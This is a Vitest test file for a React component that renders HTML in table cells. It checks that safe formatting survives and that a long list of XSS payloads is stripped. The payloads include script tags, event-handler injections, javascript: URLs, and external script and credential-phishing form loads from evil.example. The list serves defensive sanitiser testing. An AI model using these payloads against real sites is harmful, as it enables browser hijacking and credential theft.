import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { HtmlCell } from './HtmlCell.tsx';
import { looksLikeHtml } from './html-cells.ts';

const drawn = (text: string) =>
  renderToStaticMarkup(createElement(HtmlCell, { text })).replace(/^.*?<span data-test="html-cell">|<\/span>$/g, '');

describe('HTML in the cells of a table', () => {
  it.each([
    ['<b>bold</b> and <i>so</i>', '<b>bold</b> and <i>so</i>'],
    ['<ul><li>one</li></ul>', '<ul><li>one</li></ul>'],
    [
      '<a href="https://example.org/a?b=1">there</a>',
      '<a href="https://example.org/a?b=1" target="_blank" rel="noreferrer noopener">there</a>',
    ],
    [
      '<img src="https://example.org/a.png" alt="a">',
      '<img src="https://example.org/a.png" alt="a" referrerPolicy="no-referrer"/>',
    ],
    ['1 &lt; 2 &amp; ü 日本', '1 &lt; 2 &amp; ü 日本'],
  ])('%s is drawn', (text, expected) => {
    expect(drawn(text)).toBe(expected);
  });

  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" onclick="alert(1)">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0><base href=//evil.example>',
    '<b style="position:fixed;inset:0;background:url(//evil.example)">x</b>',
    '<details open ontoggle=alert(1)>x</details>',
    '<template><script>alert(1)</script></template>',
    '<b id="root" name="x" class="xp">x</b>',
    '<<script>script>alert(1)<</script>/script>',
    '<!--><script>alert(1)</script>-->',
    '<img src="/logout/"><img src="//evil.example/a.png">',
  ])('%s does nothing', (text) => {
    const html = drawn(text);
    const tags = [...html.matchAll(/<([a-z]+)([^>]*)>/gi)];
    const forbidden =
      /^(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|noscript)$/i;
    expect(tags.filter(([, name = '']) => forbidden.test(name))).toEqual([]);
    const attributes = tags.flatMap(([, , rest = '']) => [...rest.matchAll(/([\w-]+)(?:="([^"]*)")?/g)]);
    expect(attributes.filter(([, name = '']) => /^(on\w+|style|class|srcdoc)$/i.test(name))).toEqual([]);
    const addresses = attributes.filter(([, name = '']) => /^(href|src)$/.test(name)).map(([, , value]) => value);
    expect(addresses.filter((address) => !address?.startsWith('https://'))).toEqual([]);
    expect(attributes.filter(([, name, value]) => name === 'id' && !value?.startsWith('user-content-'))).toEqual([]);
  });

  it('is known by its tags, not by signs of comparison', () => {
    expect(['<b>x</b>', 'a <br/> b', '<A HREF="x">'].every(looksLikeHtml)).toBe(true);
    expect(['1 < 2', '<3', 'a > b', '<NULL', '', '< b >'].some(looksLikeHtml)).toBe(false);
  });
});
